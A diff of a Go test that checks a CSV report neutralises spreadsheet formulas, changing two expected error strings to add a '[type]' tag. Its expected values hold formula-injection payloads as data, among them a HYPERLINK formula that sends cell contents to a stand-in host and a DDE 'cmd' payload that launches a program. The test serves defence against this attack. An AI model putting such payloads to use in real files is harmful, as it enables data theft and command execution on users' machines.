@@ -57,8 +57,8 @@ func TestReportCSVNeutralisesFormulas(t *testing.T) {
 	}
 	want := []string{
 		`'=HYPERLINK("http://evil.example/?"&A1,"click") valid: `,
-		`'@SUM(A1) invalid: items.csv:3:amount: "x" is not a number (decimal separator ".")`,
-		`'+cmd|' /C calc'!A0 invalid: items.csv:4:amount: "1 234" is not a number (decimal separator ".")`,
+		`'@SUM(A1) invalid: [type] items.csv:3:amount: "x" is not a number (decimal separator ".")`,
+		`'+cmd|' /C calc'!A0 invalid: [type] items.csv:4:amount: "1 234" is not a number (decimal separator ".")`,
 		`-5 valid: `,
 	}
 	if !slices.Equal(got, want) {
